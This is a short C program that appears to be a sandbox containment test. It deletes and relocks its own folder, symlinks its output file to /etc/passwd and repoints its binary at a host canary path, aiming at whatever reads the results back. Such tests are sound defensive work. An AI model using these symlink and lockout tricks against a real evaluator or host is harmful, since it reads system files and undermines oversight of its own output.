#include "attack.h"

// A program that deletes and locks its own folder takes nothing from what reads it back.
int main(void) {
    unlink("/work/main");
    symlink(host("HOST_CANARY"), "/work/main");
    symlink("/etc/passwd", "result");
    chmod("/work", 0);
    rename("/work", "/tmp/work");
    contained("its folder is shut");
}
